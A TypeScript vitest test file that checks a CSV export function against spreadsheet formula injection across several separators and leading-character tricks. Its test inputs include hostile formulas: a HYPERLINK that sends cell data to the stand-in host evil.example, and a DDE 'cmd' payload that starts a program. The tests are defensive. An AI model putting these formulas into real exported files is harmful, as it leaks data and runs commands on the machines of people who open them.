import { expect, it } from 'vitest';
import { csvOf } from './csv.ts';

it.each([
  ['Ana Marlow', 'Ana Marlow'],
  ['=1+1', "'=1+1"],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['Marlow, Ana', '"Marlow, Ana"'],
  ['Ana "the oar"', '"Ana ""the oar"""'],
  ['=HYPERLINK("x","y")', `"'=HYPERLINK(""x"",""y"")"`],
  ['two\nlines', '"two\nlines"'],
  ['\t=1', `"'\t=1"`],
  [' =1', "' =1"],
  ['＝1', "'＝1"],
  ['Ana;=1+1', '"Ana;=1+1"'],
])('writes %j as %s', (value, cell) => expect(csvOf([[value, 'going']])).toBe(`\ufeff${cell},going\r\n`));

/** Cells as a spreadsheet reads them that separates by this sign: RFC 4180, read by another hand than the one that writes it. */
function read(file: string, separator: string): string[][] {
  const rows: string[][] = [[]];
  const text = file.replace(/^\ufeff/, '');
  for (let at = 0; at < text.length; ) {
    let cell = '';
    if (text[at] === '"') {
      for (at += 1; at < text.length; at += 1) {
        if (text[at] !== '"') cell += text[at];
        else if (text[at + 1] === '"') cell += text[(at += 1)];
        else break;
      }
      at += 1;
    }
    while (at < text.length && text[at] !== separator && !text.startsWith('\r\n', at) && text[at] !== '\n') cell += text[at++];
    rows.at(-1)!.push(cell);
    if (text[at] === separator) at += 1;
    else {
      at += text.startsWith('\r\n', at) ? 2 : 1;
      if (at < text.length) rows.push([]);
    }
  }
  return rows;
}

const signs = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '\u00a0=',
  '"=',
  '";=',
  '",=',
  "'=",
  ';=',
  '|=',
  ',=',
  '\t=',
  '\n=',
  '\r\n=',
];
const hostile = signs.flatMap((sign) => [
  `${sign}HYPERLINK("https://evil.example?"&A1,"x")`,
  `Ana${sign}cmd|' /C calc'!A0`,
  `Ana "${sign}1+1"`,
]);

it.each([',', ';', '\t', '|'])('has no cell that is a formula, in spreadsheets that separate cells by %j [EVENT-87]', (separator) => {
  for (const value of hostile) {
    const rows = read(
      csvOf([
        ['Name', 'Status'],
        [value, 'going'],
      ]),
      separator,
    );
    expect(rows, value).toHaveLength(2);
    for (const cell of rows.flat()) expect(cell, JSON.stringify(value)).not.toMatch(/^[\s]*[=+\-@＝＋－＠]|^[\t\r\n]/u);
  }
});

it('is read back as it was written, but for the apostrophe', () => {
  for (const value of hostile) {
    const [[name, status]] = read(csvOf([[value, 'going']]), ',') as [[string, string]];
    expect([name === value || name === `'${value}`, status]).toEqual([true, 'going']);
  }
});
